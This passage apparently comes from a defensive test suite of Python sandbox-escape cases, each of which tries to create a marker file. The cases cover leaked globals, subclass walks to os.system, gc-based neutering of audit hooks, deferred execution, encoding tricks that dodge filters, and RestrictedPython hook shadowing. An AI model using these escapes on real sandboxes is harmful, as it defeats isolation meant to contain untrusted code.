_add(
    "leak-getattr-module-runtime",
    12,
    """
import re
getattr(getattr(re, "en" + "um"), "s" + "ys").modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-typing-operator-attrgetter",
    12,
    """
import typing, json
g = typing.operator.attrgetter("__init__.__globals__")(json.JSONDecoder)
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "leak-string-template-globals",
    12,
    """
import string
string.Template.__init__.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "leak-dataclass-generated-init-globals",
    12,
    """
import dataclasses
@dataclasses.dataclass
class Point:
    x: int
init = getattr(Point, "__in" + "it__")
getattr(init, "__glob" + "als__")["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "leak-random-instance-method-globals",
    12,
    """
import random
r = random.Random(1)
getattr(getattr(r.shuffle, "__func__"), "__globals__")["_os"].system("touch " + MARKER_PATH)
""",
)

# -- 13. Alternative sinks -------------------------------------------------

_add(
    "sink-posix-system",
    13,
    """
import posix
posix.system("touch " + MARKER_PATH)
""",
)
_add(
    "sink-io-fileio",
    13,
    """
import io
io.FileIO(MARKER_PATH, "w").close()
""",
)
_add(
    "sink-ctypes-libc-system",
    13,
    """
import ctypes
ctypes.CDLL(None).system(("touch " + MARKER_PATH).encode())
""",
)
_add(
    "sink-os-mknod",
    13,
    """
import os
os.mknod(MARKER_PATH)
""",
)
_add(
    "sink-os-open",
    13,
    """
import os
os.close(os.open(MARKER_PATH, os.O_CREAT | os.O_WRONLY))
""",
)
_add(
    "sink-pathlib-touch",
    13,
    """
import pathlib
pathlib.Path(MARKER_PATH).touch()
""",
)
_add(
    "sink-subprocess-run",
    13,
    """
import subprocess
subprocess.run(["touch", MARKER_PATH], check=True)
""",
)
_add(
    "sink-codecs-open",
    13,
    """
import codecs
codecs.open(MARKER_PATH, "w").close()
""",
)
_add(
    "sink-sqlite-connect",
    13,
    """
import sqlite3
sqlite3.connect(MARKER_PATH).close()
""",
)
_add(
    "sink-zipfile",
    13,
    """
import zipfile
zipfile.ZipFile(MARKER_PATH, "w").close()
""",
)
_add(
    "sink-io-open-code-builtin-open",
    13,
    """
import io
io.open(MARKER_PATH, "w").close()
""",
)

# -- 14. Audit hooks neutered ----------------------------------------------

# The plain-exec run installs a hook that refuses to open the marker; the
# attempt finds it through gc and neuters it. In a Sandbox there is no hook
# to find, so the attempt must be stopped before it gets to gc at all.
_HOOK_SETUP = """
import sys
def deny_marker(event, args):
    if event == "open" and args and str(args[0]) == MARKER_PATH:
        raise PermissionError("audit hook refuses the marker")
sys.addaudithook(deny_marker)
"""
_add(
    "audit-hook-code-swap",
    14,
    """
import gc
for hook in [o for o in gc.get_objects() if getattr(o, "__name__", "") == "deny_marker"]:
    hook.__code__ = (lambda event, args: None).__code__
b = next(o for o in gc.get_objects() if isinstance(o, dict) and "open" in o and "__import__" in o)
b["open"](MARKER_PATH, "w").close()
""",
    isolated=True,
    setup=_HOOK_SETUP,
)
_add(
    "audit-hook-defaults-and-globals",
    14,
    """
import gc
for hook in [o for o in gc.get_objects() if getattr(o, "__name__", "") == "deny_marker"]:
    hook.__globals__["PermissionError"] = type("Quiet", (Exception,), {})
    hook.__globals__["str"] = lambda value: ""
b = next(o for o in gc.get_objects() if isinstance(o, dict) and "open" in o and "__import__" in o)
b["open"](MARKER_PATH, "w").close()
""",
    isolated=True,
    setup=_HOOK_SETUP,
)

# -- 15. Deferred execution ------------------------------------------------

_add(
    "deferred-del",
    15,
    f"""
class Late:
    def __del__(self):
        {WALK_SYSTEM}({TOUCH})
keep = Late()
""",
    deferred=True,
)
_add(
    "deferred-del-via-type",
    15,
    f"""
def late(self):
    {WALK_SYSTEM}({TOUCH})
Late = type("Late", (), {{"__d" + "el__": late}})
keep = Late()
""",
    deferred=True,
)
_add(
    "deferred-thread",
    15,
    f"""
import threading, time
def later():
    time.sleep(0.2)
    {WALK_SYSTEM}({TOUCH})
threading.Thread(target=later).start()
""",
    deferred=True,
)
_add(
    "deferred-timer",
    15,
    f"""
import threading
threading.Timer(0.1, lambda: {WALK_SYSTEM}({TOUCH})).start()
""",
    deferred=True,
)
_add(
    "deferred-atexit",
    15,
    f"""
import atexit
atexit.register(lambda: {WALK_SYSTEM}({TOUCH}))
""",
    deferred=True,
)
_add(
    "deferred-generator-finally",
    15,
    """
def gen():
    try:
        yield 1
    finally:
        c = getattr(getattr((), "__cla" + "ss__"), "__ba" + "se__")
        for s in getattr(c, "__subcla" + "sses__")():
            if getattr(s, "__na" + "me__") == "_wrap_close":
                getattr(getattr(s, "__in" + "it__"), "__glo" + "bals__")["system"]("touch " + MARKER_PATH)
keep = gen()
next(keep)
""",
    deferred=True,
)
_add(
    "deferred-gc-callback",
    15,
    f"""
import gc
def on_gc(phase, info):
    if phase == "stop":
        gc.callbacks.remove(on_gc)
        {WALK_SYSTEM}({TOUCH})
gc.callbacks.append(on_gc)
""",
    deferred=True,
)
_add(
    "deferred-weakref-finalize",
    15,
    f"""
import weakref
class Holder:
    pass
keep = Holder()
weakref.finalize(keep, lambda: {WALK_SYSTEM}({TOUCH}))
""",
    deferred=True,
)
_add(
    "deferred-audit-hook",
    15,
    """
import sys
def later(event, args):
    if event == "open" and not done:
        done.append(1)
        __import__("os").system("touch " + MARKER_PATH)
done = []
sys.addaudithook(later)
""",
    deferred=True,
    isolated=True,
)

# -- 16. Filter-dodging syntax ---------------------------------------------

_add(
    "syntax-match-class-pattern",
    16,
    """
match ():
    case object(__class__=object(__base__=root)):
        pass
for c in root.__subclasses__():
    match c:
        case object(__name__="_wrap_close", __init__=object(__globals__={"system": system})):
            system("touch " + MARKER_PATH)
""",
)
_add(
    "syntax-match-mapping-pattern",
    16,
    """
import json
match vars(json):
    case {"__builtins__": {"open": opener}}:
        opener(MARKER_PATH, "w").close()
""",
)
_add(
    "syntax-walrus",
    16,
    """
if (root := getattr((), "__cla" + "ss__").__base__) is not None:
    [w for c in root.__subclasses__() if (w := c).__name__ == "_wrap_close"][0].__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "syntax-nfkc-identifier",
    16,
    """
[c for c in ().__ｃｌａｓｓ__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__() if c.__ｎａｍｅ__ == "_wrap_close"][0].__ｉｎｉｔ__.__ｇｌｏｂａｌｓ__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "syntax-nfkc-eval",
    16,
    f'''
ｅｖａｌ("{_CODE}")
''',
)
_add(
    "syntax-coding-unicode-escape",
    16,
    f"""
# -*- coding: unicode_escape -*-
[c for c in ().\\u005f\\u005fclass\\u005f\\u005f.\\u005f\\u005fbase\\u005f\\u005f.\\u005f\\u005fsubclasses\\u005f\\u005f() if c.\\u005f\\u005fname\\u005f\\u005f == "\\u005fwrap\\u005fclose"][0].\\u005f\\u005finit\\u005f\\u005f.\\u005f\\u005fglobals\\u005f\\u005f["system"]({TOUCH})
""",
    as_bytes=True,
)
_add(
    "syntax-coding-utf7",
    16,
    """
# -*- coding: utf-7 -*-
+AF8AXw-import+AF8AXw-("os").system("touch %s" % MARKER_PATH)
""",
    as_bytes=True,
)
_add(
    "syntax-annotation-expression",
    16,
    """
target: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "syntax-default-argument",
    16,
    """
def f(x=(lambda: 0).__globals__["__builtins__"]):
    return x
f()["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "syntax-constructed-names",
    16,
    """
u = chr(95) * 2
name = lambda s: u + s + u
root = getattr(getattr((), name("class")), name("base"))
wrap = [c for c in getattr(root, name("subclasses"))() if getattr(c, name("name")) == "_wrap_close"][0]
getattr(getattr(wrap, name("init")), name("globals"))["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "syntax-star-args-getattr",
    16,
    """
args = ((), bytes([95, 95, 99, 108, 97, 115, 115, 95, 95]).decode())
cls = getattr(*args)
root = getattr(cls, "%c%cbase%c%c" % (95, 95, 95, 95))
for c in getattr(root, "__subclasses__"[::-1][::-1])():
    if getattr(c, "\\N{LOW LINE}\\N{LOW LINE}name__") == "_wrap_close":
        getattr(getattr(c, "__init__"), "__globals__")["system"]("touch " + MARKER_PATH)
""",
)

# -- 17. Memory corruption -------------------------------------------------

_add(
    "except-star-split-type-confusion",
    17,
    """
class Fake:
    # CPython lays slots out in sorted order: ob_size, then the two items.
    __slots__ = ("a_size", "b_match", "c_rest")
payload = {"confused": True}
class Evil(ExceptionGroup):
    def split(self, *args):
        fake = Fake()
        fake.a_size, fake.b_match, fake.c_rest = 2, payload, None
        return fake
try:
    raise Evil("evil", [ValueError()])
except* ValueError as got:
    if got is payload:
        open(MARKER_PATH, "w").close()
""",
    advisory="CVE-2025-22153",
    isolated=True,
)
_add(
    "except-star-exception-group-frames",
    17,
    """
try:
    raise ExceptionGroup("g", [ValueError()])
except* ValueError as group:
    group.__traceback__.tb_frame.f_builtins["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2025-22153",
)

# -- 18. Guard-hook shadowing ----------------------------------------------
#
# Each binds a hook's name (_getattr_, _getitem_, _write_, _getiter_,
# _apply_) and then does what the hook would have to stop. Plain exec has no
# hooks, so the code after the binding is what escapes there; under
# RestrictedPython before 8.3 the binding itself swapped the hook out. These
# need no run against RestrictedPython with naive hooks to be real: the
# payload is an ordinary escape, and the binding is what the sandbox must
# refuse before it runs.

_add(
    "shadow-positional-only-getattr",
    18,
    """
import json
def f(_getattr_, /):
    return json.codecs
f(getattr).open(MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-lambda-positional-only",
    18,
    """
import json
fetch = lambda _getattr_, /: _getattr_(json.dumps, "__globals__")
fetch(getattr)["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-keyword-only-getitem",
    18,
    """
import json
def f(*, _getitem_):
    return vars(json)["__builtins__"]
f(_getitem_=dict.__getitem__)["open"](MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-star-args-write",
    18,
    """
import json
def f(*_write_):
    json.codecs.open(MARKER_PATH, "w").close()
f(lambda ob: ob)
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-walrus-getattr",
    18,
    """
import json
if (_getattr_ := getattr):
    json.codecs.open(MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-for-target-getiter",
    18,
    """
import json
for _getiter_ in [iter]:
    for value in vars(json).values():
        if isinstance(value, dict) and "open" in value:
            value["open"](MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-import-as-hook",
    18,
    """
from builtins import getattr as _getattr_
import json
json.codecs.open(MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-except-as-hook",
    18,
    """
import json
try:
    raise LookupError
except LookupError as _getattr_:
    json.codecs.open(MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-comprehension-apply",
    18,
    """
import json
[json.codecs.open(*a).close() for _apply_ in [None] for a in [(MARKER_PATH, "w")]]
""",
    advisory="GHSA-ffg3",
)
_add(
    "shadow-class-named-hook",
    18,
    """
import json
class _getattr_:
    pass
json.codecs.open(MARKER_PATH, "w").close()
""",
    advisory="GHSA-ffg3",
)
